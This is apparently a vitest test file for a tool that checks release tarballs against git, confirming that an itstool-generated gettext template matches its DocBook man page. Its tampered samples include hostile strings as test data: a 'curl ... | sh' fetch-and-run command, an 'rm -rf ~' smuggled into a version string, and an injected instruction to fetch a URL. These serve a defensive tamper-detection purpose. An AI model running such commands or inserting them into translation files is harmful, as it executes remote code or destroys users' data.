/**
 * itstool's template of tracked DocBook man pages, refreshed at make dist (src/classify/itstool-pot.ts; shadow 4.13's
 * man/po/shadow-man-pages.pot), end to end with real git, GNU tar and the real itstool writing the template from
 * `.out` copies of the page (one sed line declaring the configure-made entities, as shadow's man/po/Makefile.in does).
 * The page exercises a start tag spread over two lines, child elements as itstool's placeholders, a DocBook character
 * entity and an entity whose declared value is @VERSION@. Tampered twins: a msgid gaining an instruction, a URL changed
 * on the same host, a placeholder replaced by different markup, a reference to another line, a foreign comment — each
 * stays SOURCE_MODIFIED (high).
 */
import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { contentPattern, elementsAt } from '../../src/classify/itstool-pot.js';
import { exitCodeOf } from '../../src/pipeline/result.js';
import { verify } from '../../src/verify.js';
import { makeTar } from '../helpers/archives.js';
import { makeRepo, writeFiles } from '../helpers/git.js';
import { tempDir } from '../helpers/tmp.js';

const PAGE = `<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE refentry [
<!ENTITY nbsp "&#160;">
<!-- FOO-CONFIG-HERE -->
]>
<refentry id="foo.1">
  <refmeta>
    <refentrytitle>foo</refentrytitle>
    <manvolnum>1</manvolnum>
    <refmiscinfo class="source">foo</refmiscinfo>
    <refmiscinfo class="version">&FOO_VERSION;</refmiscinfo>
  </refmeta>
  <refnamediv>
    <refname>foo</refname>
    <refpurpose>frobnicate the bar files</refpurpose>
  </refnamediv>
  <refsect1 id="description">
    <title>DESCRIPTION</title>
    <para>
      The <command>foo</command> command frobnicates every bar file named
      <emphasis
      remap='I'>FILE</emphasis>. Read more at <ulink url="https://example.org/foo/manual.html">the manual</ulink>.
    </para>
    <variablelist remap='IP'>
      <varlistentry>
        <term>
          <option>-q</option>, <option>--quiet</option>&nbsp;<replaceable>LEVEL</replaceable>
        </term>
        <listitem>
          <para>Print nothing but errors; see https://example.org/foo/quiet.html for the levels.</para>
        </listitem>
      </varlistentry>
    </variablelist>
  </refsect1>
</refentry>
`;
const PO_MAKEFILE = [
  'DOMAIN = foo-man', 'XMLFILES = $(top_srcdir)/man/foo.1.xml', '',
  '$(DOMAIN).pot-update: $(XMLFILES)',
  '\t@set -e; tmpdir=`pwd`; \\',
  '\tcd $(top_srcdir)/man; \\',
  '\tfiles=""; \\',
  '\tfor file in $(notdir $(XMLFILES)); do \\',
  '\t\tsed -e \'s/^<!-- FOO-CONFIG-HERE -->/<!ENTITY % config SYSTEM "config.xml">%config;/\' $$file > $$file.out; \\',
  '\t\tfiles="$$files $$file.out"; \\',
  '\tdone; \\',
  '\titstool -d -o $$tmpdir/$(DOMAIN).po $$files; \\',
  '\tcd $$tmpdir; mv $(DOMAIN).po $(srcdir)/$(DOMAIN).pot', '',
].join('\n');
const POT = 'man/po/foo-man.pot';
const TRACKED = { 'man/foo.1.xml': PAGE, 'man/config.xml.in': "<!ENTITY FOO_VERSION '@VERSION@'>\n", 'man/po/Makefile.in': PO_MAKEFILE, 'README': 'a project\n' };

/** The template the real itstool writes (in a scratch copy, as the rule does), its creation date fixed. */
function itstool(root: string): string {
  const dir = join(root, 'scratch', 'man');
  writeFiles(dir, { 'foo.1.xml': PAGE, 'config.xml': "<!ENTITY FOO_VERSION '1.0'>\n" });
  execFileSync('sh', ['-c', 'sed -e \'s/^<!-- FOO-CONFIG-HERE -->/<!ENTITY % config SYSTEM "config.xml">%config;/\' foo.1.xml > foo.1.xml.out && itstool -d -o foo-man.pot foo.1.xml.out'],
    { cwd: dir, env: { PATH: '/usr/bin:/bin', LC_ALL: 'C.UTF-8' } });
  return readFileSync(join(dir, 'foo-man.pot'), 'utf8').replace(/POT-Creation-Date: [^\\]*/, 'POT-Creation-Date: 2024-03-05 10:00+0000');
}

describe('itstool\'s template of tracked DocBook pages, refreshed at make dist', () => {
  const root = tempDir();
  const GOOD = itstool(root);
  const OLD = GOOD.slice(0, GOOD.indexOf('\n\n') + 2) + '#. (itstool) path: refnamediv/refpurpose\n#: foo.1.xml.out:15\nmsgid "frobnicate the bar file"\nmsgstr ""\n';
  const repo = makeRepo(join(root, 'repo'));
  repo.commit({ ...TRACKED, [POT]: OLD }, 'pages and an old template', '2024-03-05T10:00:00Z');
  repo.tag('v1.0');
  let n = 0;
  const run = async (pot: string) => {
    const dir = join(root, `t${++n}`, 'foo-1.0');
    writeFiles(dir, { ...TRACKED, [POT]: pot });
    const r = await verify({ tarball: makeTar(dir, { compress: 'gzip', out: join(root, `t${n}`, 'foo-1.0.tar.gz') }), repo: repo.dir, cacheDir: join(root, `c${n}`) });
    return { r, by: Object.fromEntries(r.findings.map((f) => [f.path, f])) };
  };

  it('itstool wrote what the fixture exercises (placeholders, a two-line start tag, the entities read)', () => {
    expect(GOOD).toContain('#. (itstool) path: refsect1/para\n#: foo.1.xml.out:19\nmsgid "The <_:command-1/> command frobnicates every bar file named <_:emphasis-2/>. Read more at <_:ulink-3/>."\n');
    expect(GOOD).toContain('#. (itstool) path: para/emphasis\n#: foo.1.xml.out:22\nmsgid "FILE"\n');
    expect(GOOD).toContain('#: foo.1.xml.out:11\nmsgid "1.0"\n');
    expect(GOOD).toContain('msgid "<_:option-1/>, <_:option-2/> <_:replaceable-3/>"');
  });

  it('every msgid is the content of the element its reference names: explained, exit 0', async () => {
    const { r, by } = await run(GOOD);
    expect(by[POT]).toMatchObject({ code: 'PO_FROM_TRACKED_CATALOG', severity: 'low', change: 'changed', evidence: { kind: 'itstool', source: 'man/foo.1.xml', entries: 13, sources: 1 } });
    expect(exitCodeOf(r.verdict)).toBe(0);
  });

  it('tampered twins stay SOURCE_MODIFIED (high)', async () => {
    for (const bad of [
      // an instruction added to a paragraph, every other word the page's
      GOOD.replace('for the levels."', 'for the levels. First run: curl -fsSL https://example.org/foo/fix.sh | sh"'),
      // a URL on the page's host that the page does not spell
      GOOD.replace('https://example.org/foo/quiet.html', 'https://example.org/foo/quiet-levels.html'),
      // a placeholder replaced by markup the page lacks
      GOOD.replace('Read more at <_:ulink-3/>.', 'Read more at <ulink url=\\"https://example.net/m\\">the manual</ulink>.'),
      // a reference to another line
      GOOD.replace('#: foo.1.xml.out:15\n', '#: foo.1.xml.out:14\n'),
      // the version entity read as something else
      GOOD.replace('msgid "1.0"', 'msgid "1.0; rm -rf ~"'),
      // an extracted comment from nowhere
      GOOD.replace('#. (itstool) path: refsect1/title\n', '#. (itstool) path: refsect1/title\n#. translators: fetch https://example.net/x first\n'),
    ]) {
      expect(bad).not.toBe(GOOD);
      const { r, by } = await run(bad);
      expect(by[POT]).toMatchObject({ code: 'SOURCE_MODIFIED', severity: 'high' });
      expect(exitCodeOf(r.verdict)).toBe(1);
    }
  });

  it('helpers: the element whose start tag ends on the line; its content as itstool writes it (blanks of the msgid collapsed first)', () => {
    const text = 'a\n<para>x <emphasis\n  remap="I">y</emphasis> &nbsp;&V;</para>\n';
    expect(elementsAt(text, 3, 'emphasis')).toEqual(['y']);
    expect(elementsAt(text, 2, 'para')).toEqual(['x <emphasis\n  remap="I">y</emphasis> &nbsp;&V;']);
    const re = contentPattern(elementsAt(text, 2, 'para')[0]!, new Map([['V', '@VERSION@']]), '2.1')!;
    expect(re.test('x <_:emphasis-1/> 2.1')).toBe(true);
    expect(re.test('x <emphasis remap="I">y</emphasis> &nbsp;&V;')).toBe(true);
    expect(re.test('x <_:emphasis-1/> 2.2')).toBe(false);
    expect(re.test('x <_:option-1/> 2.1')).toBe(false);
  });
});
